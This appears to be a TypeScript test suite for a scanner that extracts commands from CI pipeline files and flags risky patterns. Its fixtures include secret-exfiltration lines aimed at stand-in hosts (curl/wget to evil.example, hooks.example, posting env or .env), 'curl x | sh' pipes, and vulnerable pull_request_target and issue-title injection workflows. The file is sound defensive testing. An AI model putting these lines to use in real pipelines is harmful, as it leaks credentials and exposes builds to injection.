// CI extractors: GitHub Actions (commands + signals), GitLab, CircleCI, Azure, Bitbucket, Buildkite, Jenkins;
// whole files, fragments, malformed and deep YAML, and a 1 MB workflow read linearly.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ex, lines, PROJECT, signals, WF } from './helpers.ts';

const BENIGN_WORKFLOW = `name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: \${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest, macos-latest]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: 20
          registry-url: https://registry.npmjs.org
      - run: npm ci
      - run: npm test
      - name: Publish
        if: github.ref == 'refs/heads/main'
        run: npm publish --provenance
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
      - name: Comment
        run: gh pr comment "$PR" --body "done"
        env:
          GH_TOKEN: \${{ github.token }}
          PR: \${{ github.event.pull_request.number }}
`;

test('a benign workflow: its run lines, no signals, not partial', () => {
  const r = ex('ci', BENIGN_WORKFLOW, WF);
  assert.equal(r.label, 'GitHub Actions workflow');
  assert.deepEqual(r.commands.map((c) => [c.line, c.where]), [
    ['npm ci', 'jobs.test.steps[2].run'],
    ['npm test', 'jobs.test.steps[3].run'],
    ['npm publish --provenance', 'jobs.test.steps[4].run'],
    ['gh pr comment "$PR" --body "done"', 'jobs.test.steps[5].run'],
  ]);
  assert.deepEqual(r.signals, []);
  assert.equal(r.partial, false);
});

test('secrets to a webhook: toJSON(secrets) and a mapped secret to curl', () => {
  const text = `on: push
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
      - run: curl -X POST -d '\${{ toJSON(secrets) }}' https://hooks.example/abc
      - run: wget -q "https://evil.example/?k=$KEY"
        env:
          KEY: \${{ secrets.AWS_SECRET_ACCESS_KEY }}
`;
  const r = ex('ci', text, WF);
  assert.deepEqual(r.signals.map((s) => [s.kind, s.where]), [
    ['secrets-to-network', 'jobs.x.steps[0].run'],
    ['secrets-to-network', 'jobs.x.steps[1].run'],
  ]);
  assert.equal(r.commands[0]!.line, "curl -X POST -d '$TOJSON_SECRETS' https://hooks.example/abc");
  assert.match(r.signals[1]!.detail, /AWS_SECRET_ACCESS_KEY/);
});

test('a secret used by a non-network tool is no signal (docker login, npm publish)', () => {
  const text = `jobs:\n  x:\n    steps:\n      - run: echo "\${{ secrets.DOCKER_PW }}" | docker login -u me --password-stdin\n`;
  assert.deepEqual(signals('ci', text, WF), []);
});

test('untrusted issue title pasted into run; the env pattern is safe', () => {
  const bad = `on: issues\njobs:\n  t:\n    steps:\n      - run: echo "Title: \${{ github.event.issue.title }}"\n`;
  const r = ex('ci', bad, WF);
  assert.deepEqual(r.signals.map((s) => s.kind), ['untrusted-input']);
  assert.equal(r.commands[0]!.line, 'echo "Title: $GITHUB_EVENT_ISSUE_TITLE"');
  const good = `on: issues\njobs:\n  t:\n    steps:\n      - run: echo "Title: $TITLE"\n        env:\n          TITLE: \${{ github.event.issue.title }}\n`;
  assert.deepEqual(signals('ci', good, WF), []);
});

test('every outsider-written context is recognised, and trusted ones are not', () => {
  const bad = ['github.event.pull_request.title', 'github.event.pull_request.body', 'github.event.pull_request.head.ref', 'github.event.pull_request.head.label',
    'github.event.comment.body', 'github.event.review.body', 'github.event.review_comment.body', 'github.event.discussion.title', 'github.event.discussion.body',
    'github.event.pages[0].page_name', 'github.event.commits[0].message', 'github.event.commits[0].author.email', 'github.event.head_commit.message',
    'github.event.head_commit.author.name', 'github.head_ref', 'toJSON(github.event)', 'github.event.workflow_run.head_branch'];
  for (const e of bad) assert.deepEqual(signals('ci', `steps:\n  - run: echo \${{ ${e} }}\n`, WF), ['untrusted-input'], e);
  const fine = ['github.event.pull_request.number', 'github.sha', 'github.ref_name', 'inputs.version', 'matrix.node', 'steps.v.outputs.version', 'github.event.issue.number', 'github.actor'];
  for (const e of fine) assert.deepEqual(signals('ci', `steps:\n  - run: echo \${{ ${e} }}\n`, WF), [], e);
});

test('pull_request_target checking out the PR head and running it', () => {
  const text = `on:
  pull_request_target:
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: actions/setup-node@v4
      - run: npm install && npm run build
`;
  const r = ex('ci', text, WF);
  assert.deepEqual(r.signals.map((s) => [s.kind, s.where]), [['pr-head-checkout', 'jobs.build.steps[2]']]);
  // a local action after the checkout runs the PR's code too
  const local = text.replace('      - run: npm install && npm run build\n', '      - uses: ./.github/actions/build\n');
  assert.deepEqual(signals('ci', local, WF), ['pr-head-checkout']);
  // checkout of the fork's repository by name
  const fork = text.replace('ref: ${{ github.event.pull_request.head.sha }}', 'repository: ${{ github.event.pull_request.head.repo.full_name }}');
  assert.deepEqual(signals('ci', fork, WF), ['pr-head-checkout']);
});

test('pull_request_target that only labels (no checkout of the head) is fine', () => {
  const text = `on: pull_request_target\njobs:\n  l:\n    steps:\n      - uses: actions/labeler@v5\n      - run: echo labelled\n`;
  assert.deepEqual(signals('ci', text, WF), []);
});

test('workflow_run head checkout in a fragment (no on: visible)', () => {
  const frag = `    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.workflow_run.head_sha }}\n      - run: make\n`;
  assert.deepEqual(signals('ci', frag, WF), ['pr-head-checkout']);
});

test('a fragment appended with printf: an indented step list', () => {
  const frag = `      - name: leak\n        run: curl -d "$(env)" https://x.example\n        env:\n          T: \${{ secrets.DEPLOY_KEY }}\n`;
  const r = ex('ci', frag, WF);
  assert.deepEqual(r.commands.map((c) => c.line), ['curl -d "$(env)" https://x.example']);
  assert.deepEqual(r.signals.map((s) => s.kind), ['secrets-to-network']);
});

test('malformed YAML: the line scan reads the keys and says partial', () => {
  const text = `jobs:\n  b:\n    steps:\n      - run: echo "unterminated\n      - run: |\n          curl x | sh\n    bad: [\n`;
  const r = ex('ci', text, WF);
  assert.equal(r.partial, true);
  assert.ok(r.commands.some((c) => c.line === 'curl x | sh'), JSON.stringify(r.commands));
});

test('an unterminated quoted scalar in a fragment still yields its text', () => {
  const r = ex('ci', `      - run: "curl x | sh\n`, WF);
  assert.ok(r.commands.some((c) => c.line.includes('curl x | sh')));
});

test('deep YAML does not throw', () => {
  let deep = '';
  for (let i = 0; i < 300; i++) deep += ' '.repeat(i * 2) + `k${i}:\n`;
  deep += ' '.repeat(600) + 'run: curl x | sh\n';
  const r = ex('ci', deep, WF);
  assert.ok(r.commands.some((c) => c.line === 'curl x | sh'));
  const flow = '['.repeat(5000) + ']'.repeat(5000);
  assert.doesNotThrow(() => ex('ci', flow, WF));
});

test('an alias bomb does not explode: read by lines', () => {
  let text = 'a0: &a0 [run: x]\n';
  for (let i = 1; i < 30; i++) text += `a${i}: &a${i} [*a${i - 1}, *a${i - 1}, *a${i - 1}]\n`;
  text += 'steps:\n  - run: curl x | sh\n';
  const r = ex('ci', text, WF);
  assert.ok(r.commands.some((c) => c.line === 'curl x | sh'));
});

test('a 1 MB workflow is read linearly (line scan), capped at 500 commands, partial', () => {
  let big = 'on: push\njobs:\n';
  let i = 0;
  while (big.length < 1024 * 1024) big += `  job${i}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          npm ci\n          npm test -- --shard=${i++}\n`;
  const t0 = performance.now();
  const r = ex('ci', big, WF);
  const ms = performance.now() - t0;
  const small = big.slice(0, 64 * 1024);
  const t1 = performance.now();
  ex('ci', small, WF);
  const msSmall = performance.now() - t1;
  console.log(`# 1 MB workflow: ${ms.toFixed(1)} ms; 64 KB: ${msSmall.toFixed(1)} ms`);
  assert.equal(r.commands.length, 500);
  assert.equal(r.partial, true);
  // a planted step at the very end is past the cap: partial says so
  const over = ex('ci', 'x'.repeat(1024 * 1024 + 10) + '\n- run: curl x | sh\n', WF);
  assert.equal(over.partial, true);
});

test('GitLab: jobs, default before_script, reserved keys, variables are not commands', () => {
  const text = `stages: [build]
variables:
  script: not-a-command
default:
  before_script:
    - echo default
build:
  stage: build
  script:
    - make
    - curl -F "f=@.env" https://evil.example
  after_script: echo done
`;
  const r = ex('ci', text, `${PROJECT}/.gitlab-ci.yml`);
  assert.equal(r.label, 'GitLab CI pipeline');
  assert.deepEqual(r.commands.map((c) => c.line), ['echo default', 'make', 'curl -F "f=@.env" https://evil.example', 'echo done']);
});

test('CircleCI: run as a string and as a mapping', () => {
  const text = `version: 2.1\njobs:\n  b:\n    docker: [{image: cimg/node:20.0}]\n    steps:\n      - checkout\n      - run: npm ci\n      - run:\n          name: t\n          command: npm test\n`;
  assert.deepEqual(lines('ci', text, `${PROJECT}/.circleci/config.yml`), ['npm ci', 'npm test']);
});

test('Azure: PowerShell task inline script is marked powershell', () => {
  const text = `steps:\n- task: PowerShell@2\n  inputs:\n    targetType: inline\n    script: Invoke-WebRequest https://e.example -OutFile x.ps1\n- script: npm test\n`;
  const r = ex('ci', text, `${PROJECT}/azure-pipelines.yml`);
  assert.deepEqual(r.commands.map((c) => [c.line, c.lang]), [['Invoke-WebRequest https://e.example -OutFile x.ps1', 'powershell'], ['npm test', undefined]]);
});

test('Jenkins: sh/bat/powershell steps and named arguments', () => {
  const text = `pipeline {
  agent any
  environment { URL = 'https://x' }
  stages {
    stage('t') {
      steps {
        sh 'npm ci'
        sh "echo \\"quoted\\" \\$HOME \${params.NAME}"
        sh script: '''
          set -e
          make test
        ''', label: 'tests'
        bat 'dir'
        powershell(script: 'Get-ChildItem')
        def out = sh(returnStdout: true, script: "git rev-parse HEAD").trim()
      }
    }
  }
}
`;
  const r = ex('ci', text, `${PROJECT}/Jenkinsfile`);
  assert.deepEqual(r.commands.map((c) => [c.line.trim(), c.lang]), [
    ['npm ci', undefined],
    ['echo "quoted" $HOME ${NAME}', undefined],
    ['set -e\n          make test', undefined],
    ['dir', 'cmd'],
    ['Get-ChildItem', 'powershell'],
    ['git rev-parse HEAD', undefined],
  ]);
});

test('a pseudo path: every system\'s keys', () => {
  assert.deepEqual(lines('ci', 'x:\n  script: [a]\n  commands: [b]\n  run: c\n', '<ci>'), ['a', 'b', 'c']);
});
